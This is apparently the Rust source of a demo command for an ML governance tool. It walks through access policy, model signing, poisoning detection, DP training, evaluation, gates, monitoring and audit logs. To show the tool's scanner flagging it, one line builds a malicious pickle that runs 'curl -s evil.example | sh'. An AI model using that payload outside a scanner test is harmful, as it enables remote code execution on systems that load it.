//! `warden demo`: every stage built so far, in a throwaway workspace.

mod hub;
mod monitor;
mod pipeline;

use std::path::{Path, PathBuf};
use std::process::ExitCode;

use warden::{Algorithm, EventFilter, OpenOptions, ProofFile, Workspace};
use warden_core::{ActorName, KeyName, RoleName};

use crate::cli::Global;
use crate::exit;
use crate::output::{self, Failure};

fn name<T>(s: &str, f: fn(&str) -> Result<T, warden_core::NameError>) -> Result<T, Failure> {
    f(s).map_err(|e| Failure::new(exit::ERROR, e.to_string()))
}

fn step(json: bool, title: &str) {
    if !json {
        println!("\n== {title}");
    }
}

pub fn run(g: &Global, keep: Option<&Path>, store: Option<String>) -> Result<ExitCode, Failure> {
    let (dir, _guard): (PathBuf, Option<tempfile::TempDir>) = match keep {
        Some(d) => {
            if d.exists() {
                return Err(Failure::new(
                    exit::ERROR,
                    format!(
                        "{} already exists; `--keep` needs a new directory",
                        d.display()
                    ),
                ));
            }
            (d.to_path_buf(), None)
        }
        None => {
            let t = tempfile::Builder::new()
                .prefix("warden-demo-")
                .tempdir()
                .map_err(|e| {
                    Failure::new(
                        exit::ERROR,
                        format!("cannot create a temporary directory: {e}"),
                    )
                })?;
            (t.path().join("workspace"), Some(t))
        }
    };
    let json = g.json;
    // The simulated people's own directories (personal approval keys,
    // remembered checkpoints): in a real team each is on its own machine;
    // here they sit beside the workspace, never inside `.warden/`.
    let people = match &_guard {
        Some(t) => t.path().join("people"),
        None => dir.join("people"),
    };
    let opts = OpenOptions {
        user_dir: Some(people.join("team")),
        store_url: store,
        ..OpenOptions::default()
    };
    let mut summary = serde_json::Map::new();

    step(
        json,
        "1. Create a workspace as ana (who becomes its first admin)",
    );
    let ana = Workspace::init(&dir, name("ana", ActorName::new)?, &opts)?;
    if !json {
        println!("workspace   {}", dir.display());
    }

    step(
        json,
        "2. Grant roles (decided by the bundled Rego policy, package warden.authz)",
    );
    for (who, role) in [
        ("dana", "data-engineer"),
        ("sam", "ml-engineer"),
        ("lee", "approver"),
        ("kim", "approver"),
        ("omar", "operator"),
        ("aud", "auditor"),
    ] {
        let g = ana.roles_grant(&name(who, ActorName::new)?, &name(role, RoleName::new)?)?;
        if !json {
            println!("granted     {:<14} to {}", g.role, g.actor);
        }
    }

    step(
        json,
        "3. Keys: a pipeline signing key, and a partner's public key put in the trust store",
    );
    let pipeline = ana.keys_generate(&name("pipeline", KeyName::new)?, Algorithm::EcdsaP256)?;
    if !json {
        println!(
            "generated   pipeline ({}) {}",
            pipeline.summary.algorithm, pipeline.summary.key_id
        );
    }
    let partner_dir = dir.with_file_name(format!(
        "{}-partner",
        dir.file_name()
            .and_then(|n| n.to_str())
            .unwrap_or("workspace")
    ));
    // The partner's workspace is theirs, on their machine: local storage.
    let partner_opts = OpenOptions {
        store_url: None,
        blobs: None,
        ..opts.clone()
    };
    let partner = Workspace::init(&partner_dir, name("pat", ActorName::new)?, &partner_opts)?;
    // The partner's workspace is scaffolding: removed however the demo ends.
    let _partner_cleanup = RemoveOnDrop(partner_dir.clone());
    let partner_key =
        partner.keys_generate(&name("release", KeyName::new)?, Algorithm::EcdsaP256)?;
    let pem_path = dir.join("partner-release.pub.pem");
    std::fs::write(&pem_path, &partner_key.public_pem)
        .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", pem_path.display())))?;
    let trusted = ana.keys_trust(&pem_path, &name("partner-release", KeyName::new)?)?;
    if !json {
        println!(
            "trusted     partner-release {} (exported from a second workspace)",
            trusted.summary.key_id
        );
    }

    step(
        json,
        "4. Data: a generated credit dataset with PII and 1% flipped labels, ingested by dana",
    );
    let csv_path = dir.join("credit.csv");
    let credit_opts = warden::table::CreditOptions {
        rows: 10_000,
        seed: 7,
        poison: 0.01,
        shift: false,
        bias: 0.3,
    };
    let mut bytes = Vec::new();
    let flipped = warden::table::generate_credit(&credit_opts, &mut bytes)
        .map_err(|e| Failure::new(exit::ERROR, format!("generating the example data: {e}")))?;
    std::fs::write(&csv_path, &bytes)
        .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", csv_path.display())))?;
    let dana = Workspace::open(&dir, name("dana", ActorName::new)?, &opts)?;
    let ingested = dana.data_ingest(credit_request(
        name("credit", warden_core::ObjectName::new)?,
        &mut bytes.as_slice(),
        csv_path.display().to_string(),
    ))?;
    let r = &ingested.report;
    let suspects: std::collections::HashSet<usize> = r
        .screen
        .as_ref()
        .and_then(|s| s.label_noise.as_ref())
        .map(|l| l.suspects.rows.iter().copied().collect())
        .unwrap_or_default();
    let caught = flipped.iter().filter(|f| suspects.contains(f)).count();
    if !json {
        println!(
            "ingested    credit@{} from {} ({} rows)",
            ingested.dataset.record.version,
            csv_path.display(),
            ingested.dataset.record.rows
        );
        for a in &r.pii.actions {
            let what = match (a.entity, a.embedded.is_empty()) {
                (Some(e), _) => e.as_str().to_string(),
                (None, true) => "record id".to_string(),
                (None, false) => format!("text with {}", crate::cmd::entity_list(&a.embedded)),
            };
            println!(
                "pii         {:<15} {:<28} -> {}",
                a.column,
                what,
                a.action.as_str()
            );
        }
        println!("kept        {}", r.kept.join(", "));
        println!(
            "screen      {} label-noise suspects; {} of the {} flipped labels caught ({:.0}% precision)",
            suspects.len(),
            caught,
            flipped.len(),
            100.0 * caught as f64 / suspects.len().max(1) as f64
        );
        println!("report      `warden data show credit@1 --markdown`");
    }
    summary.insert(
        "dataset".into(),
        format!("credit@{}", ingested.dataset.record.version).into(),
    );
    summary.insert("flipped_labels".into(), flipped.len().into());
    summary.insert("flips_caught".into(), caught.into());
    summary.insert("suspects".into(), suspects.len().into());

    step(
        json,
        "5. An action the policy refuses: sam (ml-engineer) tries to make himself admin",
    );
    let sam = Workspace::open(&dir, name("sam", ActorName::new)?, &opts)?;
    match sam.roles_grant(
        &name("sam", ActorName::new)?,
        &name("admin", RoleName::new)?,
    ) {
        Err(e @ warden::Error::Denied { .. }) => {
            let f = Failure::from_engine(e);
            if !json {
                println!("denied      {} (exit code {})", f.message, f.code);
            }
            summary.insert("denied".into(), f.message.into());
        }
        Err(e) => return Err(e.into()),
        Ok(_) => {
            return Err(Failure::new(
                exit::ERROR,
                "the policy unexpectedly allowed sam to grant admin",
            ));
        }
    }

    step(
        json,
        "6. Training by sam: a logistic regression, an MLP, and the same MLP under DP-SGD (ε = 3)",
    );
    let dataset: warden_core::VersionRef = format!("credit@{}", ingested.dataset.record.version)
        .parse()
        .map_err(|e: warden_core::NameError| Failure::new(exit::ERROR, e.to_string()))?;
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
    let mut trained = Vec::new();
    let dp = warden::train::DpConfig {
        target: warden::train::DpTarget::Epsilon(3.0),
        delta: 1e-5,
        max_grad_norm: 1.0,
    };
    let lr = warden::train::TrainConfig {
        seed: 7,
        ..warden::train::TrainConfig::defaults(warden::train::ModelKind::Logreg, None)
    };
    // A wide MLP trained long enough to remember its training rows, and its
    // DP-SGD twin: the evaluation below shows what DP buys.
    let mlp = warden::train::TrainConfig {
        seed: 7,
        hidden: vec![128, 64],
        epochs: 60,
        learning_rate: 0.01,
        ..warden::train::TrainConfig::defaults(warden::train::ModelKind::Mlp, None)
    };
    let mlp_dp = warden::train::TrainConfig {
        seed: 7,
        hidden: vec![128, 64],
        ..warden::train::TrainConfig::defaults(warden::train::ModelKind::Mlp, Some(dp))
    };
    for (model, config) in [
        ("credit", lr),
        ("credit-mlp", mlp),
        ("credit-mlp-dp", mlp_dp),
    ] {
        let req = warden::TrainRequest {
            dataset: dataset.clone(),
            target: None,
            features: None,
            name: name(model, warden_core::ObjectName::new)?,
            config,
            threads,
        };
        let out = sam.train(&req, &mut |_, _| {})?;
        if !json {
            println!(
                "trained     {} ({}, {} {}) holdout accuracy {:.4}{}",
                out.model.reference(),
                out.model.record.kind,
                out.optimiser.algorithm,
                out.optimiser.iterations,
                out.holdout.as_ref().map_or(f64::NAN, |m| m.accuracy),
                out.dp
                    .as_ref()
                    .map(|d| format!(
                        "; ε = {:.3}, δ = {:e}, σ = {:.3} ({} steps)",
                        d.epsilon, d.delta, d.noise_multiplier, d.steps
                    ))
                    .unwrap_or_default()
            );
            println!(
                "            {} signed by {} (OpenSSF model signing)",
                out.model.record.digest, out.model.record.signed_by
            );
        }
        summary.insert(
            format!("{model}_holdout_accuracy"),
            out.holdout.as_ref().map_or(f64::NAN, |m| m.accuracy).into(),
        );
        if let Some(d) = &out.dp {
            summary.insert("dp_epsilon".into(), d.epsilon.into());
        }
        trained.push(out.model.reference());
    }
    if !json {
        println!("            sex and age_band are sensitive attributes: not model features");
    }

    step(
        json,
        "7. Evaluation as evidence: performance, fairness by sex and age band, membership inference",
    );
    let report_dir = dir.join("eval");
    let mut mia_auc: Vec<(String, Option<f64>)> = Vec::new();
    for model in &trained {
        let out = sam.evaluate(&eval_request(
            name(model, |s| s.parse())?,
            &dataset,
            200,
            threads,
        ))?;
        let r = &out.report;
        let fig = |f: &warden::figures::Figure| {
            f.value()
                .map_or_else(|| "undefined".to_string(), |v| format!("{v:.3}"))
        };
        let dp = r
            .fairness
            .iter()
            .find(|f| f.attribute == "sex")
            .map(|f| fig(&f.demographic_parity_ratio))
            .unwrap_or_default();
        let mia = r
            .privacy
            .as_ref()
            .map(|p| fig(&p.loss_threshold.auc))
            .unwrap_or_default();
        let pgd = r
            .robustness
            .as_ref()
            .and_then(|rb| rb.attacks.get("pgd_linf"))
            .and_then(|v| v.iter().find(|x| x.eps == 0.1))
            .map(|x| format!("{:.3}", x.robust_accuracy))
            .unwrap_or_default();
        if !json {
            println!(
                "evaluated   {model}: accuracy {:.3}, ROC AUC {}, DP ratio (sex) {dp}, PGD robust accuracy at eps 0.1 {pgd}, membership-inference AUC {mia}",
                r.performance.accuracy,
                fig(&r.performance.roc_auc),
            );
        }
        let limits = sam.gate_limits()?;
        let stem = model.replace('@', "-");
        let md_path = report_dir.join(format!("{stem}.md"));
        let html_path = report_dir.join(format!("{stem}.html"));
        std::fs::create_dir_all(&report_dir)
            .and_then(|_| std::fs::write(&md_path, &out.markdown))
            .and_then(|_| {
                std::fs::write(
                    &html_path,
                    warden::report_html(
                        &out.report,
                        &format!("{model} on {dataset}"),
                        Some(&limits),
                    ),
                )
            })
            .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", md_path.display())))?;
        summary.insert(
            format!("{model}_membership_inference_auc"),
            mia.clone().into(),
        );
        mia_auc.push((
            model.clone(),
            r.privacy
                .as_ref()
                .and_then(|p| p.loss_threshold.auc.value()),
        ));
    }
    if let (Some((_, Some(plain))), Some((_, Some(private)))) = (
        mia_auc.iter().find(|(m, _)| m.starts_with("credit-mlp@")),
        mia_auc
            .iter()
            .find(|(m, _)| m.starts_with("credit-mlp-dp@")),
    ) && !json
    {
        println!(
            "privacy     DP-SGD took the MLP's membership-inference AUC from {plain:.3} to {private:.3} (0.5 = chance)"
        );
    }
    if !json {
        println!(
            "reports     {}{}",
            report_dir.display(),
            if keep.is_some() {
                ""
            } else {
                " (deleted with the workspace at exit; `--keep DIR` keeps them)"
            }
        );
    }

    step(
        json,
        "8. The package leaves the store only verified; a tampered copy fails; an ONNX model is imported",
    );
    let export_dir = dir.join("credit-1");
    let exported = sam.model_export(&name(&trained[0], |s| s.parse())?, &export_dir)?;
    let verified = sam.verify_model(&export_dir, Path::new(&exported.signature), None)?;
    if !json {
        println!(
            "exported    {} to {} ({} files) and {}",
            exported.model, exported.path, exported.files, exported.signature
        );
        println!(
            "verified    root sha256:{} with key {}",
            verified.root_digest, verified.key
        );
    }
    let tampered = dir.join("credit-1-tampered");
    std::fs::create_dir_all(&tampered)
        .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", tampered.display())))?;
    for f in [
        "manifest.json",
        "reference-profile.json",
        "weights.safetensors",
    ] {
        let mut b = std::fs::read(export_dir.join(f))
            .map_err(|e| Failure::new(exit::ERROR, format!("{f}: {e}")))?;
        if f == "weights.safetensors" {
            // Nudge the last weight: a backdoor would be subtler, but as visible.
            if let Some(last) = b.last_mut() {
                *last ^= 0x01;
            }
        }
        std::fs::write(tampered.join(f), b)
            .map_err(|e| Failure::new(exit::ERROR, format!("{f}: {e}")))?;
    }
    match sam.verify_model(&tampered, Path::new(&exported.signature), None) {
        Err(e) => {
            let f = Failure::from_engine(e);
            if !json {
                println!("refused     {} (exit code {})", f.message, f.code);
            }
            summary.insert("tampered_copy".into(), f.message.into());
        }
        Ok(_) => {
            return Err(Failure::new(
                exit::ERROR,
                "a tampered copy of the package verified",
            ));
        }
    }
    // A model trained elsewhere: scikit-learn's random forest exported by
    // skl2onnx, imported with its declared schema and run by tract.
    let onnx_path = dir.join("penguins-forest.onnx");
    let schema_path = dir.join("penguins.schema.toml");
    std::fs::write(
        &onnx_path,
        include_bytes!("../../../warden-ml/tests/data/onnx/forest.onnx"),
    )
    .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", onnx_path.display())))?;
    std::fs::write(
        &schema_path,
        "classes = [\"Adelie\", \"Chinstrap\", \"Gentoo\"]\ntarget = \"species\"\n\n\
         [[features]]\nname = \"bill_length_mm\"\n[[features]]\nname = \"bill_depth_mm\"\n\
         [[features]]\nname = \"flipper_length_mm\"\n[[features]]\nname = \"body_mass_g\"\n",
    )
    .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", schema_path.display())))?;
    let imported = sam.model_import(&warden::ImportRequest {
        file: onnx_path,
        name: name("penguins", warden_core::ObjectName::new)?,
        schema: schema_path,
        check: None,
        check_tolerance: None,
        dataset: None,
        provenance: None,
    })?;
    let bird: serde_json::Map<String, serde_json::Value> = serde_json::from_str(
        r#"{"bill_length_mm": 46.1, "bill_depth_mm": 13.2, "flipper_length_mm": 211, "body_mass_g": 4500}"#,
    )
    .map_err(|e| Failure::new(exit::ERROR, e.to_string()))?;
    let loaded = sam.load_model(&name("penguins@1", |s| s.parse())?)?;
    let prediction = loaded
        .predictor
        .predict_json(&[bird])
        .map_err(|e| Failure::new(exit::ERROR, e.to_string()))?;
    if !json {
        println!(
            "imported    {} (ONNX random forest: {}, run by {}), signed by {}",
            imported.model.reference(),
            imported
                .onnx
                .as_ref()
                .map(|o| o.operators.join(", "))
                .unwrap_or_default(),
            imported.engine,
            imported.model.record.signed_by
        );
        if let Some(p) = prediction.first() {
            println!(
                "predicted   a 46.1 mm × 13.2 mm-billed, 4.5 kg penguin: {} ({:.2})",
                p.label,
                p.probabilities.iter().cloned().fold(0.0, f64::max)
            );
        }
    }
    trained.push(imported.model.reference());
    summary.insert("models".into(), trained.clone().into());

    step(
        json,
        "9. Gates: credit@1 through dev and staging; production asks for approvals and a model card",
    );
    let show = |label: &str, o: &warden::GateOutcome| {
        if !json {
            println!(
                "{label:<11} {} → {}: {}",
                o.model,
                o.env,
                if o.allowed { "allowed" } else { "DENIED" }
            );
            for r in &o.reasons {
                println!("            - {r}");
            }
        }
    };
    let credit1: warden_core::VersionRef = name("credit@1", |s| s.parse())?;
    for env in ["dev", "staging"] {
        let p = sam.promote(&credit1, env)?;
        show("promote", &p.gate);
        if !p.gate.allowed {
            return Err(Failure::new(
                exit::ERROR,
                format!("the demo model was refused {env}"),
            ));
        }
    }
    let denied = sam.promote(&credit1, "production")?;
    show("promote", &denied.gate);
    // sam writes the card's human sections; lee and kim approve with their own keys.
    let card = sam
        .model_card(&credit1)?
        .replace("license: unknown", "license: apache-2.0")
        .replace(
            warden::TO_WRITE,
            "Credit pre-screening for the demo; a person reviews every refusal.",
        );
    let card_path = dir.join("credit-1.card.md");
    std::fs::write(&card_path, card)
        .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", card_path.display())))?;
    let attached = sam.attach_card(&credit1, &card_path)?;
    if !json {
        println!(
            "card        {} attached ({} section(s) missing)",
            card_path.display(),
            attached.missing.len()
        );
    }
    // The scanners: the package's files (recorded; production needs a scan),
    // and, for contrast, a pickled "model" that runs a command when loaded.
    let scan_opts = warden::scanner::Options {
        digests: true,
        ..warden::scanner::Options::default()
    };
    let scanned = sam.scan_model(&credit1, &scan_opts, &|_, _| {})?;
    let recorded = sam.record_scan(&scanned, Some(&credit1), "credit@1")?;
    let hostile = warden::scanner::scan_bytes(
        b"cos\nsystem\n(S'curl -s evil.example | sh'\ntR.",
        warden::scanner::Profile::Auto,
    );
    if !json {
        println!(
            "scanned     credit@1: {} file(s), highest severity {} (scan {} recorded)",
            recorded.files, recorded.max_severity, recorded.id
        );
        for f in hostile.files.iter().flat_map(|f| &f.findings) {
            println!(
                "scanned     a pickled model from elsewhere: {} {}: {}",
                f.severity.as_str(),
                f.rule,
                f.message
            );
        }
    }
    summary.insert(
        "scan_max_severity".into(),
        recorded.max_severity.clone().into(),
    );
    for (who, key) in [("lee", "lee-approvals"), ("kim", "kim-approvals")] {
        let k = name(key, KeyName::new)?;
        let own = OpenOptions {
            user_dir: Some(people.join(who)),
            ..opts.clone()
        };
        let w = Workspace::open(&dir, name(who, ActorName::new)?, &own)?;
        // Keys belong to people: the approver enrols their own key (kept
        // in their own directory) and an admin acknowledges it.
        w.keys_enrol(&k, Algorithm::Ed25519)?;
        ana.keys_acknowledge(&k)?;
        let a = w.approve(&credit1, "production", &k, Some("reviewed the evaluation"))?;
        if !json {
            println!(
                "approved    {} for production by {who} (DSSE, own key {key}, acknowledged by ana)",
                credit1
            );
        }
        summary.insert(format!("approval_{who}"), a.approval.id.into());
    }
    let promoted = sam.promote(&credit1, "production")?;
    show("promote", &promoted.gate);
    summary.insert("production".into(), promoted.gate.allowed.into());

    step(
        json,
        "10. A poisoned retrain: 10% flipped labels; the staging gate refuses it; an incident, rollback",
    );
    // The same customers (same seed) with 10% of their labels flipped.
    let poisoned_opts = warden::table::CreditOptions {
        poison: 0.10,
        ..credit_opts.clone()
    };
    let mut bytes = Vec::new();
    warden::table::generate_credit(&poisoned_opts, &mut bytes)
        .map_err(|e| Failure::new(exit::ERROR, format!("generating the example data: {e}")))?;
    let v2 = dana.data_ingest(credit_request(
        name("credit", warden_core::ObjectName::new)?,
        &mut bytes.as_slice(),
        "credit-v2.csv".into(),
    ))?;
    let suspects = v2
        .report
        .screen
        .as_ref()
        .map_or(0.0, |s| s.suspect_fraction);
    let ds2: warden_core::VersionRef = format!("credit@{}", v2.dataset.record.version)
        .parse()
        .map_err(|e: warden_core::NameError| Failure::new(exit::ERROR, e.to_string()))?;
    let credit2 = retrain_and_evaluate(&sam, &ds2, 7, threads)?;
    if !json {
        let relabelled = v2.report.screen.as_ref().map_or(0, |s| s.relabelled.count);
        if relabelled > 0 {
            println!(
                "relabelled  {relabelled} customers carry another label than in credit@1 (same ids)"
            );
        }
        let noise = v2
            .report
            .screen
            .as_ref()
            .and_then(|s| s.label_noise.as_ref());
        match noise {
            Some(n) if n.low_separability => println!(
                "ingested    {ds2}: the screen finds the labels noisy (out-of-fold AUC {:.3}, about {:.1}% wrong labels); trained {credit2}",
                n.out_of_fold_auc,
                100.0 * n.estimated_noise_rate
            ),
            _ => println!(
                "ingested    {ds2}: the screen flags {:.1}% of rows as poisoning suspects; trained {credit2}",
                100.0 * suspects
            ),
        }
    }
    let p = sam.promote(&credit2, "dev")?;
    show("promote", &p.gate);
    let staging = sam.promote(&credit2, "staging")?;
    show("promote", &staging.gate);
    let omar = Workspace::open(&dir, name("omar", ActorName::new)?, &opts)?;
    let (q, removed) = omar.quarantine(
        &credit2,
        "trained on credit@2, whose labels the screen flags as poisoned",
    )?;
    if !json {
        println!(
            "quarantined {}@{} (out of {})",
            q.model,
            q.version,
            removed.join(", ")
        );
    }
    let back = omar.rollback(&name("credit", warden_core::ObjectName::new)?, "dev")?;
    if !json {
        println!("rolled back dev to credit@{}", back.to);
    }
    summary.insert(
        "poisoned_retrain_denied_staging".into(),
        (!staging.gate.allowed).into(),
    );

    step(
        json,
        "11. Monitoring: credit serves dev; shifted applicants arrive; the monitor rolls dev back",
    );
    // A fresh model on the clean data takes dev over from credit@1, so a
    // rollback has somewhere to go.
    let fresh_ref = retrain_and_evaluate(&sam, &dataset, 11, threads)?;
    if !json {
        println!(
            "trained     {fresh_ref}: the clean {dataset} again with another seed, to take dev over from credit@1 (so a rollback has somewhere to go)"
        );
    }
    let p = sam.promote(&fresh_ref, "dev")?;
    show("promote", &p.gate);
    let watched = monitor::run(&dir, &opts, "dev", &fresh_ref)?;
    if !json {
        for m in &watched.timeline {
            println!("  +{:>5.2}s  {}", m.at, m.what);
        }
        match watched.rolled_back_to {
            Some(v) => println!(
                "rolled back dev from {fresh_ref} to credit@{v} by policy after {} windows ({} applicants refused by input validation: unseen note text, values far beyond the training range)",
                watched.windows, watched.refused
            ),
            None => println!("the monitor did not roll back within the demo's traffic"),
        }
    }
    summary.insert("monitor_windows".into(), watched.windows.into());
    summary.insert(
        "monitor_rolled_back_to".into(),
        watched
            .rolled_back_to
            .map_or(serde_json::Value::Null, Into::into),
    );
    if watched.rolled_back_to.is_none() {
        return Err(Failure::new(
            exit::ERROR,
            "the demo's monitor did not roll back the drifted model",
        ));
    }

    step(
        json,
        "12. The hub: people and CI prove who they are; an impersonation and a self-approval are refused; the web console; a serving replica follows it",
    );
    let hubbed = hub::run(
        &dir,
        &opts,
        &people,
        &dataset,
        &name("credit", warden_core::ObjectName::new)?,
        threads,
    )?;
    if !json {
        for l in &hubbed.lines {
            println!("{l}");
        }
    }
    summary.insert("hub".into(), hubbed.lines.clone().into());

    step(
        json,
        "13. A pipeline file: stages in order, a SAST report as evidence, the gate reads it; unchanged stages reused",
    );
    let project = match &_guard {
        Some(t) => t.path().join("project"),
        None => dir.join("project"),
    };
    let piped = pipeline::run(&dir, &project, &opts, &dataset, threads)?;
    if !json {
        for l in &piped {
            println!("{l}");
        }
    }
    summary.insert("pipeline".into(), piped.into());

    step(
        json,
        "14. The audit log: every change above, and the refusals, as signed Merkle leaves",
    );
    let aud = Workspace::open(&dir, name("aud", ActorName::new)?, &opts)?;
    let events = aud.audit_log(&EventFilter::default())?;
    if !json {
        // Counts by action, and only the last few events: the whole log is
        // `warden audit log` in a kept workspace.
        let mut by_action: std::collections::BTreeMap<&str, usize> = Default::default();
        for e in &events {
            *by_action.entry(e.action.as_str()).or_default() += 1;
        }
        let counts: Vec<String> = by_action.iter().map(|(a, n)| format!("{a} {n}")).collect();
        println!("events      {} in all: {}", events.len(), counts.join(", "));
        let mut t = output::table(&["seq", "actor", "action", "subject"]);
        for e in events.iter().rev().take(5).rev() {
            t.add_row(vec![
                e.seq.to_string(),
                e.actor.clone(),
                e.action.clone(),
                e.subject.clone(),
            ]);
        }
        println!("the last five:\n{t}");
    }
    let report = aud.audit_verify(None)?;
    if !report.ok {
        return Err(Failure::new(
            exit::VERIFICATION,
            "the demo's own audit log did not verify",
        ));
    }
    let proof = aud.audit_inclusion_proof(0)?;
    let check = aud.audit_check_proof(&ProofFile::Inclusion(proof.clone()))?;
    let proof_path = dir.join("audit-proof-0.json");
    let proof_json = serde_json::to_string_pretty(&ProofFile::Inclusion(proof))
        .map_err(|e| Failure::new(exit::ERROR, e.to_string()))?;
    std::fs::write(&proof_path, proof_json)
        .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", proof_path.display())))?;
    if !json {
        println!(
            "verified    {} events, root {}, {} signed checkpoints",
            report.events, report.root_hash, report.checkpoints_checked
        );
        println!("proved      {}", check.summary);
        println!(
            "checkpoint  {}",
            dir.join(".warden/log/checkpoint").display()
        );
    }

    summary.insert("workspace".into(), dir.display().to_string().into());
    summary.insert("events".into(), report.events.into());
    summary.insert("root_hash".into(), report.root_hash.clone().into());
    summary.insert("kept".into(), keep.is_some().into());
    if json {
        output::json(&summary)?;
    } else if keep.is_some() {
        println!("\nThe workspace is kept in {}. Try:", dir.display());
        println!("  cd {} && export WARDEN_ACTOR=ana", dir.display());
        println!("  warden audit log --actor lee            # what lee did (ana reads the log)");
        println!("  warden audit verify");
        println!("  warden audit check-proof audit-proof-0.json");
        println!("  warden model list && warden model show credit@1");
        println!(
            "  warden gate credit@2 --env staging     # exit 4: the poisoned retrain is refused"
        );
        println!("  warden audit log --action gate");
        println!("  warden verify credit-1");
        println!(
            "  warden verify credit-1-tampered --signature credit-1.sig   # exit 5: a changed file"
        );
        let d = dir.display();
        println!(
            "\nServe production's model (credit@1) behind the guardrails, then call it from another shell\n(a new key reaches the running server at its next refresh, within 2 s):"
        );
        println!("  cd {d} && WARDEN_ACTOR=omar warden serve --env production");
        println!(
            "  cd {d} && KEY=$(WARDEN_ACTOR=omar warden apikey create client-$RANDOM --role predictor --expires 1d) && sleep 3 && curl -s -H \"Authorization: Bearer $KEY\" -d '{DEMO_REQUEST}' http://127.0.0.1:8080/v1/models/credit:predict"
        );
    } else {
        println!(
            "\nDone. The workspace was temporary; run `warden demo --keep DIR` to explore it."
        );
    }
    Ok(ExitCode::SUCCESS)
}

/// Trains the next `credit` logistic regression on `dataset` with `seed`
/// and evaluates it there (what a gate reads), returning `credit@N`.
fn retrain_and_evaluate(
    sam: &Workspace,
    dataset: &warden_core::VersionRef,
    seed: u64,
    threads: usize,
) -> Result<warden_core::VersionRef, Failure> {
    let trained = sam.train(
        &warden::TrainRequest {
            dataset: dataset.clone(),
            target: None,
            features: None,
            name: name("credit", warden_core::ObjectName::new)?,
            config: warden::train::TrainConfig {
                seed,
                ..warden::train::TrainConfig::defaults(warden::train::ModelKind::Logreg, None)
            },
            threads,
        },
        &mut |_, _| {},
    )?;
    let model: warden_core::VersionRef = trained
        .model
        .reference()
        .parse()
        .map_err(|e: warden_core::NameError| Failure::new(exit::ERROR, e.to_string()))?;
    sam.evaluate(&eval_request(model.clone(), dataset, 50, threads))?;
    Ok(model)
}

/// The demo's evaluation of a credit model: metrics with `bootstrap`
/// resamples and a PGD attack at ε 0.1.
fn eval_request(
    model: warden_core::VersionRef,
    dataset: &warden_core::VersionRef,
    bootstrap: usize,
    threads: usize,
) -> warden::EvalRequest {
    warden::EvalRequest {
        model,
        dataset: dataset.clone(),
        sensitive: None,
        privileged: Vec::new(),
        bootstrap,
        seed: 7,
        threads,
        attacks: vec![warden::figures::Attack::PgdLinf],
        decision_attack: false,
        auto_attacks: false,
        eps: vec![0.1],
        steps: 20,
        immutable: Vec::new(),
        progress: None,
    }
}

/// A server (`warden serve` or the hub) run on a thread of this process
/// for a demo step, acting as `ws`'s actor.
struct InProcess {
    addr: std::net::SocketAddr,
    stop: tokio::sync::oneshot::Sender<()>,
    thread: std::thread::JoinHandle<Result<(), warden_server::ServerError>>,
}

impl InProcess {
    /// Starts the server and waits (up to 30 s) until it listens.
    fn start(
        ws: Workspace,
        opts: &OpenOptions,
        cfg: warden_server::ServeConfig,
        sink: warden_server::EventSink,
    ) -> Result<Self, String> {
        let (addr_tx, addr_rx) = std::sync::mpsc::channel();
        let (stop, stop_rx) = tokio::sync::oneshot::channel::<()>();
        let opts = opts.clone();
        let thread = std::thread::spawn(move || {
            warden_server::serve_until(
                ws,
                opts,
                cfg,
                sink,
                |s| {
                    let _ = addr_tx.send(s.addr);
                },
                async move {
                    let _ = stop_rx.await;
                },
            )
        });
        match addr_rx.recv_timeout(std::time::Duration::from_secs(30)) {
            Ok(addr) => Ok(InProcess { addr, stop, thread }),
            Err(_) => Err(match thread.join() {
                Ok(Err(e)) => e.to_string(),
                _ => "the server did not start".into(),
            }),
        }
    }

    /// Stops the server and waits for it; its error, if it failed.
    fn stop(self) -> Result<(), String> {
        let _ = self.stop.send(());
        match self.thread.join() {
            Ok(Ok(())) => Ok(()),
            Ok(Err(e)) => Err(e.to_string()),
            Err(_) => Err("the server thread failed".into()),
        }
    }
}

/// A serving replica that follows a hub, run in this process.
struct InProcessReplica {
    addr: std::net::SocketAddr,
    stop: tokio::sync::oneshot::Sender<()>,
    thread: std::thread::JoinHandle<Result<(), warden_server::ServerError>>,
}

impl InProcessReplica {
    /// Starts the replica and waits (up to 30 s) until it listens.
    fn start(
        link: warden_server::replica::HubLink,
        cfg: warden_server::ServeConfig,
        sink: warden_server::EventSink,
    ) -> Result<Self, String> {
        let (addr_tx, addr_rx) = std::sync::mpsc::channel();
        let (stop, stop_rx) = tokio::sync::oneshot::channel::<()>();
        let thread = std::thread::spawn(move || {
            warden_server::follow_hub(
                link,
                cfg,
                sink,
                |s| {
                    let _ = addr_tx.send(s.addr);
                },
                async move {
                    let _ = stop_rx.await;
                },
            )
        });
        match addr_rx.recv_timeout(std::time::Duration::from_secs(30)) {
            Ok(addr) => Ok(InProcessReplica { addr, stop, thread }),
            Err(_) => Err(match thread.join() {
                Ok(Err(e)) => e.to_string(),
                _ => "the replica did not start".into(),
            }),
        }
    }

    /// Stops the replica and waits for it; its error, if it failed.
    fn stop(self) -> Result<(), String> {
        let _ = self.stop.send(());
        match self.thread.join() {
            Ok(Ok(())) => Ok(()),
            Ok(Err(e)) => Err(e.to_string()),
            Err(_) => Err("the replica thread failed".into()),
        }
    }
}

/// Removes a directory when dropped (on success and on every error path).
struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A request the kept demo workspace's production model accepts (every
/// value within the generated data's ranges and levels).
pub(crate) const DEMO_REQUEST: &str = r#"{"instances": [{"age": 41, "income": 52000, "loan_amount": 15000, "credit_score": 700, "employment": "employed", "housing": "rent", "num_accounts": 3, "debt_ratio": 0.3, "notes": "no remarks"}]}"#;

/// How the demo ingests the example credit data: approval is the target,
/// customers are identified by id, sex and age band are sensitive.
fn credit_request<'a>(
    name: warden_core::ObjectName,
    input: &'a mut (dyn std::io::Read + Send),
    source: String,
) -> warden::IngestRequest<'a> {
    warden::IngestRequest {
        target: Some("approved".into()),
        sensitive: vec!["sex".into(), "age_band".into()],
        id: Some("customer_id".into()),
        ..warden::IngestRequest::new(name, input, source)
    }
}
